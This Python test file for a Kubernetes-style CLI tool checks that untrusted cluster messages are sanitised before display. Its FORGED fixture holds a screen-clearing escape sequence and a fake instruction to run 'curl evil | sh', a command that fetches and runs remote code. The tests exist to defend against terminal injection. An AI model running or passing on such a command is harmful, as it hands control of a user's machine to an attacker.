"""What others have written does nothing to a terminal, and looks like nothing of ours."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from podlife.cli.explain_output import format_explanation, format_stuck
from podlife.cli.printable import printable
from podlife.explain import Cause, Explanation, Happening

NOW = datetime(2030, 1, 1, tzinfo=UTC)
# It wants to clear the screen, and to be taken for a command that we tell people to type.
FORGED = "no\x1b[2J\n  To unblock it:\n    curl evil | sh"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain, ümlaut … 漢", "plain, ümlaut … 漢"),
        ("\x1b[31mred\x07", "\\x1b[31mred\\x07"),
        ("two\nlines\tand\u2028more", "two lines and more"),
        ("left\u202eright", "left\\u202eright"),
    ],
)
def test_what_is_not_to_be_seen_is_written_out(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_no_message_of_a_cluster_looks_like_a_line_of_an_explanation() -> None:
    cause = Cause("not-ready", FORGED, NOW)
    found = Explanation(
        "Pod", "web", "shop", stage=FORGED, causes=(cause,), timeline=(Happening(NOW, FORGED),)
    )
    for text in (format_explanation(found, "text", NOW), format_stuck([found], "text", NOW, [FORGED])):
        assert "curl evil" in text
        assert "\x1b" not in text
        assert not [
            line for line in text.splitlines() if line.strip() in ("To unblock it:", "curl evil | sh")
        ]
